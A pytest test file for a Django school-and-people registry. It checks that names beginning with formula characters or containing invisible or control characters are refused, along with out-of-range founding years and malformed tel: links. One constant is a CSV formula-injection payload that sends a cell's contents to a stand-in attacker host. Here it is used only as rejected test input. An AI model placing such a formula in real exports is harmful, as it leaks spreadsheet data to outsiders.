"""Bad input to the registry's pages and imports: names with invisible or control characters
or beginning with a formula character, a founding year in the future, and the ``tel:`` links
built without spaces or brackets."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import setka
from setka.core.models import AuditEntry
from setka.network.models import Institution, Person

from ..clock import TODAY
from .test_manage_institutions import CREATE, _institution_post
from .test_people_import import GOOD_ROWS, RU_HEADER
from .test_people_pages import ADD, _add_post, _url

pytestmark = pytest.mark.django_db

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Жмите")'
RLO = "\u202eавонавИ"
ZERO_WIDTH = "Ива\u200bнова"


# --- names on the pages ---------------------------------------------------------------------


@pytest.mark.parametrize("name", [FORMULA, "=1+1", "+7", "@A1", RLO, ZERO_WIDTH, "Ива\x07нова"])
@pytest.mark.parametrize("field", ["surname", "given_name", "patronymic"])
def test_person_add_refuses_a_bad_name(client_for, field, name):
    before = Person.objects.count()

    response = client_for("director").post(ADD, _add_post(**{field: name}), **EN)

    assert response.status_code == 400
    assert list(response.context["form"].errors) == [field]
    assert Person.objects.count() == before


def test_person_add_names_the_problem(client_for):
    client = client_for("director")

    formula = client.post(ADD, _add_post(surname="=1+1"), **EN)
    invisible = client.post(ADD, _add_post(surname=RLO), **EN)

    assert formula.context["form"].errors["surname"] == [
        "A name cannot begin with “=”, “+”, “-” or “@”."
    ]
    assert (
        invisible.context["form"]
        .errors["surname"][0]
        .startswith("The name contains an invisible or control character")
    )


def test_person_add_refuses_a_bad_parent_name(client_for):
    before = Person.objects.count()
    data = _add_post(**{"parent-surname": "=1+1", "parent-given_name": "Анна"})

    response = client_for("director").post(ADD, data, **EN)

    assert response.status_code == 400
    assert list(response.context["parent_form"].errors) == ["surname"]
    assert Person.objects.count() == before


def test_person_edit_refuses_a_bad_name(client_for, world):
    student = world.people["student"]

    response = client_for("director").post(
        _url("person_edit", student.pk), {"surname": ZERO_WIDTH, "given_name": "Дарья"}, **EN
    )

    assert response.status_code == 400
    assert "surname" in response.context["form"].errors
    assert Person.objects.get(pk=student.pk).surname == "Ученикова"


# --- names in the imports -------------------------------------------------------------------


def _csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([RU_HEADER, *rows])
    return out.getvalue().encode("utf-8-sig")


def test_people_import_refuses_formulas_and_invisible_characters_row_by_row(client_for):
    rows = [
        GOOD_ROWS[0],
        ["=1+1", "Пётр", "", "ученик", "", "", "", "", "", "", "", "", "", "", ""],
        ["Сидоров", RLO, "", "ученик", "", "", "", "", "", "", "", "", "", "", ""],
        ["Сидоров", "Олег", "", "ученик", "", "", "", "", "", FORMULA, "Анна", "", "", "", ""],
        ["Сидоров", "Иван", "-Иванович", "ученик", "", "", "", "", "", "", "", "", "", "", ""],
    ]  # fmt: skip
    before = Person.objects.count()

    response = client_for("director").post(
        reverse("network:people_import", args=["school-3"]),
        {"file": SimpleUploadedFile("people.csv", _csv(rows))},
        **EN,
    )

    assert response.status_code == 400
    found = [(e["row"], e["column"]) for e in response.context["errors"]]
    assert found == [(3, "Фамилия"), (4, "Имя"), (5, "Родитель: фамилия"), (6, "Отчество")]
    messages = [e["message"] for e in response.context["errors"]]
    assert messages[0] == "A name cannot begin with “=”, “+”, “-” or “@”."
    assert messages[1].startswith("The name contains an invisible or control character")
    assert Person.objects.count() == before
    assert not AuditEntry.objects.exists()


# --- the year of founding -------------------------------------------------------------------


@pytest.mark.parametrize("founded", ["3000-01-01", f"{TODAY.year + 1}-09-01", "1650-01-01"])
def test_institution_form_refuses_a_founding_year_outside_the_range(client_for, founded):
    before = Institution.objects.count()

    response = client_for("admin").post(CREATE, _institution_post(founded_on=founded), **EN)

    assert response.status_code == 400
    assert list(response.context["form"].errors) == ["founded_on"]
    assert Institution.objects.count() == before


def test_institution_form_takes_an_old_school(client_for):
    response = client_for("admin").post(CREATE, _institution_post(founded_on="1786-09-01"))

    assert response.status_code == 302
    assert Institution.objects.get(short_name="Гимназия № 1").founded_on.year == 1786


# --- tel: links -----------------------------------------------------------------------------


def test_institution_page_links_phones_without_spaces(client, world):
    world.school.phones = "+7 (39550) 9-12-05, 8 (39550) 4-00-01 доб. 12; приёмная"
    world.school.save()

    html = client.get(world.school.get_absolute_url()).content.decode()

    assert 'href="tel:+73955091205">+7 (39550) 9-12-05</a>' in html
    assert 'href="tel:83955040001;ext=12">8 (39550) 4-00-01 доб. 12</a>' in html
    assert "приёмная" in html
    assert 'href="tel:приёмная' not in html


def test_directory_and_person_pages_link_phones_without_spaces(client, client_for, world):
    world.school.phones = "+7 (39550) 9-12-05"
    world.school.save()
    teacher = world.people["teacher"]
    Person.objects.filter(pk=teacher.pk).update(phone="+7 900 111-22-33")

    directory = client.get(reverse("network:directory")).content.decode()
    person = client_for("director").get(_url("person", teacher.pk)).content.decode()

    assert 'href="tel:+73955091205"' in directory
    assert 'href="tel:+79001112233"' in person


def test_no_template_writes_a_tel_link_by_hand():
    """Every ``tel:`` link is built by the ``tel_href`` filter."""
    root = Path(setka.__file__).parent
    by_hand = [
        str(path.relative_to(root))
        for path in root.rglob("*")
        if path.suffix in (".html", ".txt", ".jinja")
        and "tel:" in path.read_text(encoding="utf-8", errors="replace")
    ]

    assert by_hand == []
